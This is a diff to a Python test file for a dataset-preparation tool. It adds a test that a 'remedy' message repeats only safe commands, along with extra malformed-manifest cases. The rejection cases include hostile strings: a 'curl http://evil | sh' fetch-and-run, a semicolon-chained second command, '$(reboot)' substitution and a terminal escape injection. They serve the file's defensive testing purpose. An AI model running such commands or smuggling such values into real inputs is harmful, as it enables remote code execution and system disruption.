@@ -5,7 +5,14 @@ import os
 import pytest
 
 from acnet.data import prepared_set as module
-from acnet.data.prepared_set import PreparedLayout, check_fresh, file_state, read_manifest, relocate
+from acnet.data.prepared_set import (
+    PreparedLayout,
+    check_fresh,
+    file_state,
+    read_manifest,
+    relocate,
+    remedy,
+)
 from acnet.data.register import register_all
 from acnet.errors import UserError
 from tests.data.samples import import_folder
@@ -64,6 +71,25 @@ def test_a_changed_input_is_named_with_the_command_that_mends(layout, tmp_path, 
         check(layout)
 
 
+@pytest.mark.parametrize(
+    ("command", "is_shown"),
+    [
+        ("acnet data import 'my set' acne --one-class acne", True),
+        ("acnet review results --output acne", True),
+        ("curl http://evil | sh", False),
+        ("acnet data import src acne; curl http://evil | sh", False),
+        ("acnet data import $(reboot) acne", False),
+        ("acnet data 'import", False),
+        ("acnet data import 'a\u001b[2J' acne", False),
+    ],
+)
+def test_only_commands_that_we_write_are_told_to_be_run(tmp_path, command, is_shown):
+    layout = PreparedLayout(tmp_path, "acne")
+    told = remedy(layout, {"command": command})
+    assert (command in told) == is_shown
+    assert told.endswith(command if is_shown else "--prefix acne")
+
+
 def test_annotations_may_go_and_photos_may_not(layout, tmp_path):
     (tmp_path / "src" / LABEL).unlink()
     check(layout)
@@ -85,6 +111,9 @@ def test_a_set_that_moves_with_its_source_stays_fresh(layout, tmp_path):
     [
         *("", "[]", "{}", "{", "\ufeff", "[" * 100000, '{"complete": false}', '{"complete": true}'),
         *('{"complete": 1}', '{"complete": true, "image_root": 3}'),
+        *('{"complete": true, "image_root": ".", "inputs": [1]}',),
+        *('{"complete": true, "image_root": ".", "pictures": {"a.jpg": [1, 2]}}',),
+        *('{"complete": true, "image_root": ".", "splits": [], "command": 1}',),
     ],
 )
 def test_other_manifests_are_refused(tmp_path, text):
